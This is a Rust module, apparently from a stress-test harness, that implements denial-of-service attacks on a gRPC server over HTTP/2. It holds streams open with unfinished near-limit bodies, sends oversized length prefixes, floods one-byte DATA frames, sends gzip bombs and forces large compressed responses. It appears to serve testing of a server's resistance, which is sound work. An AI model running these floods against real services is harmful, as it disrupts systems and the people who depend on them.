//! Attacks by the messages of calls.

use std::{
    io::{self, Write},
    net::SocketAddr,
};

use bytes::Bytes;
use flate2::{Compression, write::GzEncoder};
use h2::client;
use http::Request;

use super::{
    on_each_connection,
    raw_connection::{
        DATA, END_HEADERS, END_STREAM, HEADERS, READ, RawConnection, call, field, frame, head, ids,
        message_prefix, prefixed, request_for, socket,
    },
};

const MIB: usize = 1 << 20;
/// The default message size limit of the server.
const MAX_MESSAGE_BYTES: usize = 4 * MIB;

/// Sends `body` without an end on so many streams of one connection.
async fn unfinished(to: SocketAddr, streams: usize, body: Bytes) -> io::Result<()> {
    let (send, connection) = client::handshake(socket(to).await?).await.map_err(io::Error::other)?;
    let sending = tokio::spawn(async move {
        let mut held = Vec::new();
        for _ in 0..streams {
            let Ok(mut send) = send.clone().ready().await else { break };
            let request = Request::post(format!("http://target{READ}"))
                .header("content-type", "application/grpc")
                .body(())
                .map_err(io::Error::other)?;
            let Ok((response, mut stream)) = send.send_request(request, false) else { break };
            let _ = stream.send_data(body.clone(), false);
            held.push((response, stream));
        }
        super::hold_forever(held).await;
        io::Result::Ok(())
    });
    let result = connection.await;
    sending.abort();
    result.map_err(io::Error::other)
}

/// 200 messages of almost the limit, without their last bytes.
pub(super) async fn endless_bodies(to: SocketAddr) {
    let mut body = message_prefix(MAX_MESSAGE_BYTES - 64);
    body.resize(MAX_MESSAGE_BYTES - 64, 0);
    let body = Bytes::from(body);
    on_each_connection(20, || unfinished(to, 10, body.clone())).await;
}

/// Messages with a length prefix above the limit.
pub(super) async fn beyond_the_limit(to: SocketAddr) {
    let mut body = message_prefix(u32::MAX as usize);
    body.resize(MIB, 0);
    let body = Bytes::from(body);
    on_each_connection(20, || unfinished(to, 50, body.clone())).await;
}

/// Messages in frames of one byte, which cost the server much more than their
/// size. Other connections first use up the buffer.
pub(super) async fn small_frames(to: SocketAddr) {
    let small = on_each_connection(40, || async move {
        let mut raw_connection = RawConnection::open(to, &[]).await?;
        raw_connection.send(&call(READ, 1)).await?;
        raw_connection.send(&frame(DATA, 0, 1, &message_prefix(MIB))).await?;
        for _ in 0..1_000 {
            raw_connection.send(&frame(DATA, 0, 1, &[0]).repeat(1_000)).await?;
        }
        raw_connection.hold().await
    });
    tokio::join!(endless_bodies(to), small);
}

/// Messages of 4 KiB that decompress to 4 MiB.
pub(super) async fn gzip_bombs(to: SocketAddr) {
    let Ok(bomb) = bomb() else { return };
    let mut message = message_prefix(bomb.len());
    message[0] = 1;
    message.extend(bomb);
    let mut head = head(READ);
    head.extend(field("grpc-encoding", "gzip"));
    send_again(to, &head, &message).await;
}

/// Makes 20 calls on each of ten connections, again and again.
async fn send_again(to: SocketAddr, head: &[u8], message: &[u8]) {
    let bytes: Vec<u8> = ids(20)
        .flat_map(|id| [frame(HEADERS, END_HEADERS, id, head), frame(DATA, END_STREAM, id, message)].concat())
        .collect();
    on_each_connection(10, || {
        let bytes = bytes.clone();
        async move {
            let mut raw_connection = RawConnection::open(to, &[]).await?;
            raw_connection.send(&bytes).await?;
            // A new connection once the calls had time to run.
            let _ = tokio::time::timeout(std::time::Duration::from_millis(500), raw_connection.hold()).await;
            Ok(())
        }
    })
    .await;
}

/// Responses of 4 MiB that the server compresses.
pub(super) async fn to_be_compressed(to: SocketAddr) {
    let mut head = head(READ);
    head.extend(field("grpc-accept-encoding", "gzip"));
    let message = prefixed(&request_for(4 << 20));
    send_again(to, &head, &message).await;
}

/// A message of the largest size, compressed.
fn bomb() -> io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    // An unknown field of protobuf, as long as a message may be.
    encoder.write_all(&[0x7a, 0xf0, 0xff, 0xff, 0x01])?;
    encoder.write_all(&vec![0; MAX_MESSAGE_BYTES - 16])?;
    encoder.finish()
}
